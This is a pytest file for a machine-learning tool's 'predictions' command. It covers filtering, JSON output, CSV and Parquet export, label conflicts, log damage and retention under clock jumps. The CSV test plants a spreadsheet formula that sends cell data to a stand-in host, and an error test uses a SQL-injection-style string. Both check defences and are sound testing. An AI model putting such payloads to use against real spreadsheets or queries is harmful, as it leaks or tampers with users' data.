"""`noria predictions`: what was answered, asked for by time, release and query, as text, JSON or a file."""

from __future__ import annotations

import json
import os
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pyarrow.parquet as pq
import pytest

from noria import config
from noria.cli import execute, http
from noria.cli.context import Home
from noria.engine import assembly
from noria.predictions import retention
from noria.predictions.writer import Feedback, LogWriter, Prediction, read_all
from noria.serving.client import Server

NOW = int(time.time())
WHOLE = {"places": 0, "size_bytes": 0}
PROJECT = """project: hello
data: {points: points.csv}
model: {label: late, train: "model:train", rows: points}
environments: {staging: {}, production: {after: staging}}
"""


def answered(i: int, **changes: Any) -> Prediction:
    facts: dict[str, Any] = {
        "id": f"p{i}", "at": float(NOW - i * 3600), "project": "hello", "release": "v1" if i % 2 else "v2", "variant": "champion",
        "rollout": None, "inputs": {"carrier": "UA", "distance": i + 0.5, "seats": None},
        "outputs": {"prediction": i % 2, "probability": i / 40}, "key": None, "event_time": None, "latency_ms": 0.5,
    }  # fmt: skip
    return Prediction(**(facts | changes))


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("NORIA_HOME", raising=False)
    (tmp_path / "noria.yaml").write_text(PROJECT)
    (tmp_path / "points.csv").write_text("late,distance\n1,2\n")
    (tmp_path / "model.py").write_text("def train(features, label): ...\n")
    write(tmp_path, *(answered(i) for i in range(40)), Feedback(float(NOW), "hello", True, id="p3"))
    write(tmp_path, answered(0, id="of another", project="other"))
    return tmp_path


def write(home: Path, *records: Prediction | Feedback, environment: str = "production") -> None:
    writer = LogWriter(home / ".noria" / "log" / environment, environment)
    writer.append(*records)
    writer.close()


def say(capsys: pytest.CaptureFixture[str], *arguments: str, code: int = 0) -> str:
    assert execute(["predictions", *arguments]) == code
    captured = capsys.readouterr()
    return captured.out + captured.err


def ask(capsys: pytest.CaptureFixture[str], *arguments: str, code: int = 0) -> Any:
    return json.loads(say(capsys, *arguments, "--json", code=code))


@pytest.fixture(params=["segments", "parquet"])
def kept(request: pytest.FixtureRequest, home: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """The same log in either form."""
    if request.param == "parquet":
        done = ask(capsys, "compact")["environments"]
        assert (done["production"]["segments"], done["production"]["records"]) == (2, 42)
        assert done["staging"]["segments"] == 0
        assert not list((home / ".noria/log/production").glob("*.plog"))
    return home


def test_the_newest_first_with_label_and_counts(kept: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = say(capsys)
    lines = text.splitlines()
    assert lines[0].split() == ["when", "id", "release", "answer", "label", "key", "inputs"]
    column = lines[0].index("id")  # the first column is as wide as the longest "3 hours ago" at this minute
    assert [line[column:].split()[0] for line in lines[1:21]] == [f"p{i}" for i in range(20)]
    assert lines[4].split()[-7:] == ["v1", "1", "(0.075)", "true", "–", "carrier=UA", "distance=3.5"]
    assert lines[-1] == "40 predictions, 1 with a label (v1: 20, v2: 20); the newest 20 are shown; --limit or --to gives more"


def test_json_has_stable_keys(kept: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found = ask(capsys, "--limit", "4")
    assert {k: v for k, v in found.items() if k != "predictions"} == {
        "environment": "production", "count": 40, "labelled": 1, "conflicting": 0, "estimated": 40,
        "damaged": WHOLE, "releases": {"v1": 20, "v2": 20},
    }  # fmt: skip
    assert found["predictions"][3] == {
        "id": "p3", "at": float(NOW - 3 * 3600), "release": "v1", "variant": "champion", "rollout": None, "key": None,
        "event_time": None, "latency_ms": 0.5, "error": None, "sample": 1.0, "label": True, "labels": 1,
        "inputs": {"carrier": "UA", "distance": 3.5}, "outputs": {"prediction": 1.0, "probability": 0.075},
    }  # fmt: skip


def test_what_is_asked_for(kept: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert ask(capsys, "--since", "10h")["count"] in (10, 11)
    assert ask(capsys, "--release", "v1")["releases"] == {"v1": 20}
    found = ask(capsys, "--where", "outputs.probability > 0.9 and inputs.carrier = 'UA'")
    assert [p["id"] for p in found["predictions"]] == ["p37", "p38", "p39"]
    assert [p["id"] for p in ask(capsys, "--where", "label is not null")["predictions"]] == ["p3"]
    day = datetime.fromtimestamp(NOW - 5 * 3600, UTC).isoformat(sep=" ")
    assert ask(capsys, "--since", day)["count"] == 6
    assert ask(capsys, "-e", "staging") == {
        "environment": "staging", "count": 0, "labelled": 0, "conflicting": 0, "estimated": 0,
        "damaged": WHOLE, "releases": {}, "predictions": [],
    }  # fmt: skip
    assert "no prediction in production matches" in say(capsys, "--release", "v9")


def test_to_a_file(kept: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert ask(capsys, "--to", "all.parquet") == {
        "environment": "production", "count": 40, "labelled": 1, "conflicting": 0, "estimated": 40,
        "damaged": WHOLE, "releases": {"v1": 20, "v2": 20},
        "file": "all.parquet",
    }  # fmt: skip
    table = pq.read_table(kept / "all.parquet").to_pylist()
    assert [row["id"] for row in table] == [f"p{i}" for i in range(40)]
    assert (table[3]["inputs.distance"], table[3]["outputs.probability"], table[3]["label"]) == (3.5, 0.075, True)
    assert "5 predictions, 1 with a label" in say(capsys, "--to", "some.csv", "--limit", "5")
    read = pl.read_csv(kept / "some.csv", try_parse_dates=True)
    assert read["id"].to_list() == [f"p{i}" for i in range(5)]
    assert read["at"].cast(pl.Datetime("us")).dt.epoch("s").to_list() == [NOW - i * 3600 for i in range(5)]
    assert not list(kept.glob(".*.part"))


def test_labels_that_differ_are_told(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Number 54: the last label won silently, whoever wrote it."""
    write(home, Feedback(NOW + 1.0, "hello", False, id="p3"), *(Feedback(NOW + i, "hello", True, id="p4") for i in (1.0, 2.0)))
    found = ask(capsys, "--where", "label is not null")
    assert [(p["id"], p["label"], p["labels"]) for p in found["predictions"]] == [("p3", False, 2), ("p4", True, 1)]
    assert found["conflicting"] == 1
    assert "; 1 got labels that differ, and the last counts (--where 'labels > 1')" in say(capsys)
    assert [p["id"] for p in ask(capsys, "--where", "labels > 1")["predictions"]] == ["p3"]


def test_no_cell_of_a_csv_runs_as_a_formula(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Number 54: what a client sends may not run in the spreadsheet of who opens the export."""
    evil = '=HYPERLINK("http://x.example/"&A1)'
    inputs = {"carrier": evil, "distance": -2.5, "seats": "-7", "=cmd": "+1 (555)"}
    write(home, answered(0, inputs=inputs, key="@SUM(1)"), environment="staging")
    say(capsys, "-e", "staging", "--to", "some.csv")
    (row,) = pl.read_csv(home / "some.csv", infer_schema=False).to_dicts()
    assert (row["inputs.carrier"], row["key"], row["inputs.=cmd"]) == (f"'{evil}", "'@SUM(1)", "'+1 (555)")
    assert (row["inputs.distance"], row["inputs.seats"]) == ("-2.5", "-7")
    say(capsys, "-e", "staging", "--to", "some.parquet")
    assert pq.read_table(home / "some.parquet").to_pylist()[0]["inputs.carrier"] == evil


def test_what_of_the_log_is_damaged_is_told(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Number 51: a flipped byte cost a part of the predictions without a word."""
    path = max((home / ".noria/log/production").glob("*.plog"), key=lambda p: p.stat().st_size)
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 1
    path.chmod(0o600)
    path.write_bytes(content)
    path.chmod(0o400)
    found = ask(capsys, "--limit", "1")
    assert (found["count"], found["damaged"]["places"]) == (39, 1)
    assert 200 < found["damaged"]["size_bytes"] < 400
    for arguments in ((), ("--to", "all.parquet")):
        assert "1 damaged place (" in say(capsys, *arguments)


def test_a_sample_is_told_and_estimated(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write(home, *(answered(i, id=f"s{i}", sample=0.1) for i in range(5)), environment="staging")
    assert ask(capsys, "-e", "staging")["estimated"] == 50
    assert "which stands for about 50" in say(capsys, "-e", "staging")


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--where", "inputs.distanse > 1"], "no prediction has inputs.distanse"),
        (["--where", "distance > 1"], "a prediction has no field 'distance'"),
        (["--where", "inputs.carrier = UA"], "Text stands in single quotes: 'UA'."),
        (["--where", "label != null"], "Write `is not null`."),
        (["--where", "inputs.distance > 'far'"], "a number is compared with text here"),
        (["--where", "outputs.probability"], "neither true nor false"),
        (["--where", "date(inputs.carrier) is not null"], "cannot be computed"),
        (["--where", "x' or 1=1; drop table runs"], "--where, column"),
        (["--since", "yesterday"], "'yesterday' is no time"),
        (["--to", "x.json"], "neither .parquet nor .csv"),
        (["--to", "noria.csv"], "is there already"),
        (["--to", "nowhere/x.csv"], "does not exist"),
        (["-e", "prod"], "there is no environment 'prod'"),
    ],
)
def test_wrong_questions_are_told(home: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], message: str) -> None:
    (home / "noria.csv").write_text("mine")
    text = say(capsys, *arguments, code=2)
    assert message in text
    assert (home / "noria.csv").read_text() == "mine"


def test_a_near_name_is_suggested(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert "Did you mean inputs.distance?" in say(capsys, "--where", "inputs.distanse > 1", code=2)
    assert "inputs.distance or outputs.distance" in say(capsys, "--where", "distance > 1", code=2)


def test_compacting_by_hand_tells_of_damage(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = sorted((home / ".noria/log/production").glob("*.plog"))[0]
    content = bytearray(path.read_bytes())
    content[60] ^= 1
    path.chmod(0o600)
    path.write_bytes(content)
    path.chmod(0o400)
    before = read_all(home / ".noria/log/production")
    assert "1 damaged segment left" in say(capsys, "compact", "-e", "production")
    assert read_all(home / ".noria/log/production") == before
    assert execute(["audit", "log", "--json"]) == 0
    events = json.loads(capsys.readouterr().out)["events"]
    assert [e["kind"] for e in events] == ["log.damaged"]


def test_days_that_are_too_old_go_and_the_audit_log_says_so(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / "noria.yaml").write_text(PROJECT + "serving: {log: {keep: 10d}}\n")
    write(home, *(answered(24 * day, id=f"old{day}") for day in (30, 31, 31)), environment="staging")
    write(home, answered(1), environment="staging")
    done = ask(capsys, "compact", "-e", "staging", "--trust-clock")["environments"]["staging"]
    assert (done["records"], done["expired"]["predictions"], len(done["expired"]["dates"])) == (4, 3, 2)
    assert ask(capsys, "-e", "staging")["count"] == 1
    assert "nothing to compact" in say(capsys, "compact", "-e", "staging")
    assert execute(["audit", "log", "--json"]) == 0
    (event,) = json.loads(capsys.readouterr().out)["events"]
    assert (event["kind"], event["subject"], event["facts"]["predictions"]) == ("log.expired", "staging", 3)


def test_a_clock_that_jumped_deletes_nothing(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Number 50: `serving.log.keep` and one start with the clock 400 days ahead deleted the whole log."""
    (home / "noria.yaml").write_text(PROJECT + "serving: {log: {keep: 30d}}\n")
    write(home, *(answered(24 * day, id=f"day{day}") for day in range(1, 10)))
    say(capsys, "compact")
    real, ahead = time.time, 400 * 86_400.0
    with monkeypatch.context() as wrong:
        wrong.setattr(time, "time", lambda: real() + ahead)
        context = assembly.assemble(home)
        context.event("daemon.started", "daemon", "an event of the wrong time")
        for _ in range(3):
            (kept,) = retention.look(context, config.load(home))
            assert kept.expired.dates == ()
            assert "nothing was recorded between" in kept.refused
        context.executor.close()
        context.ledger.close()
        found = ask(capsys, "compact", "-e", "production")["environments"]["production"]
        assert (found["expired"]["predictions"], "the machine was off, or its clock jumped" in found["kept"]) == (0, True)
        assert "`noria predictions compact --trust-clock` deletes them now" in say(capsys, "compact", "-e", "production")
    assert ask(capsys)["count"] == 49
    assert execute(["audit", "log", "--json"]) == 0
    events = json.loads(capsys.readouterr().out)["events"]
    assert [e["kind"] for e in events if e["kind"] != "daemon.started"] == ["log.kept"]
    assert "nothing to compact" in say(capsys, "compact", "-e", "production")  # set right again, nothing is over
    with monkeypatch.context() as wrong:
        wrong.setattr(time, "time", lambda: real() + ahead)
        assert (
            ask(capsys, "compact", "-e", "production", "--trust-clock")["environments"]["production"]["expired"]["predictions"]
            == 50
        )


def test_a_damaged_segment_goes_when_it_is_as_old_as_the_days_that_go(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Number 50: a segment that could not be compacted stayed for ever, with all that could be read of it."""
    (home / "noria.yaml").write_text(PROJECT + "serving: {log: {keep: 10d}}\n")
    for path in (home / ".noria/log/production").glob("*.plog"):
        path.chmod(0o600)
        path.write_bytes(path.read_bytes()[:60] + b"\xff" + path.read_bytes()[61:])
        path.chmod(0o400)
    old, young = sorted((home / ".noria/log/production").glob("*.plog"))
    assert "2 damaged segments left as they are" in say(capsys, "compact", "-e", "production")
    os.utime(old, (NOW - 12 * 86_400, NOW - 12 * 86_400))
    done = ask(capsys, "compact", "-e", "production", "--trust-clock")["environments"]["production"]
    assert (done["expired"]["dates"], done["expired"]["damaged"]) == ([], 1)
    assert (old.exists(), young.exists()) == (False, True)
    assert "nothing to compact" not in say(capsys, "compact", "-e", "production")  # the younger one is still looked at
    assert execute(["audit", "log", "--json"]) == 0
    events = [e for e in json.loads(capsys.readouterr().out)["events"] if e["kind"] == "log.expired"]
    assert [e["facts"]["damaged"] for e in events] == [1]
    assert events[0]["text"].startswith("1 damaged segment of production's log deleted, as serving.log.keep says")


def test_the_daemons_look_compacts_what_is_a_day_old_and_deletes_what_is_over(home: Path) -> None:
    folder = home / ".noria" / "log" / "production"
    context = assembly.assemble(home)
    try:
        assert retention.look(context, config.load(home)) == []  # too young, too little
        for path in folder.glob("*.plog"):
            os.utime(path, (NOW - 90_000, NOW - 90_000))
        (kept,) = retention.look(context, config.load(home))
        assert (kept.environment, kept.compacted.records, kept.expired.dates) == ("production", 42, ())
        assert retention.look(context, config.load(home)) == []
        (home / "noria.yaml").write_text(PROJECT + "serving: {log: {keep: 1d}}\nmonitor: {every: 1h, label_delay: 1h}\n")
        write(home, answered(24 * 9, id="old"), *(answered(24 * day, id=f"between{day}") for day in range(1, 9)))
        for path in folder.glob("*.plog"):
            os.utime(path, (NOW - 90_000, NOW - 90_000))
        (kept,) = retention.look(context, config.load(home))
        assert kept.expired.predictions >= 1
        assert "old" not in {r.id for r in read_all(folder)}
    finally:
        context.executor.close()
        context.ledger.close()


def test_of_several_environments_the_last_is_asked(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As `rollout`, `promote` and `rollback` do: production comes last in the project file."""
    found = {"production": "http://127.0.0.1:8001", "staging": "http://127.0.0.1:8000"}  # in the server's order
    monkeypatch.setattr(Server, "addresses", lambda _: found)
    assert http.address(Home(home), None) == ("production", found["production"])
    assert http.address(Home(home), "staging") == ("staging", found["staging"])
    del found["production"]
    assert http.address(Home(home), None) == ("staging", found["staging"])
